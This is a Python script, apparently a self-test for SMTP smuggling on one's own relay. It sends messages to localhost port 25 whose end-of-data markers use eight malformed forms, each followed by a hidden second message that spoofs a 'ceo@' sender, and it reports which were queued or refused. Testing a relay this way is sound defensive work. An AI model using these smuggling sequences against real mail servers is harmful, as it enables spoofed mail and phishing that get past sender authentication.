"""Runs on a relay: messages in which another one is hidden, sent to its own port 25 by bytes. Says
as JSON what became of each: for each end of a message whether it was queued or refused."""

import json
import socket
import sys

ENDS = {
    "LF.LF": b"\n.\n",
    "LF.CRLF": b"\n.\r\n",
    "CRLF.LF": b"\r\n.\n",
    "CR.CR": b"\r.\r",
    "CRLF.CR": b"\r\n.\r",
    "CR.CRLF": b"\r.\r\n",
    "CR.LF": b"\r.\n",
    "NUL": b"\r\n\0.\r\n",
}


def session(domain: str) -> socket.socket:
    server = socket.create_connection(("127.0.0.1", 25), 30)
    server.recv(1000)
    for line in ("EHLO x", f"MAIL FROM:<app@{domain}>", "RCPT TO:<you@elsewhere.example>", "DATA"):
        server.sendall(f"{line}\r\n".encode())
        server.recv(1000)
    return server


def outcome(server: socket.socket, content: bytes) -> list[str]:
    """For each message that was ended: "queued" or "refused"."""
    server.sendall(content)
    server.settimeout(3)
    heard = b""
    try:
        while b"221 " not in heard:
            more = server.recv(65536)
            if not more:
                break
            heard += more
            if b"queued as" in heard and b"QUIT" not in content:
                server.sendall(b"QUIT\r\n")
                content += b"QUIT"
    except OSError:
        pass
    lines = heard.splitlines()
    ended = ["queued" for line in lines if b"queued as" in line]
    ended += ["refused" for line in lines if line[:1] == b"5" and b"queued" not in line]
    return ended or ["hung up"]


def main(domain: str) -> None:
    found = {}
    hidden = (
        f"MAIL FROM:<ceo@{domain}>\r\nRCPT TO:<you@elsewhere.example>\r\nDATA\r\n"
        f"From: ceo@{domain}\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n"
    ).encode()
    for name, end in ENDS.items():
        with session(domain) as server:
            outer = f"From: app@{domain}\r\nSubject: outer\r\n\r\nx".encode()
            found[name] = outcome(server, outer + end + hidden)
    with session(domain) as server:
        text = f"From: app@{domain}\nSubject: LF LF\n\nthe first line\nand the last"
        found["LF LF"] = outcome(server, text.encode() + b"\r\n.\r\n")
    print(json.dumps(found))


if __name__ == "__main__":
    main(sys.argv[1])
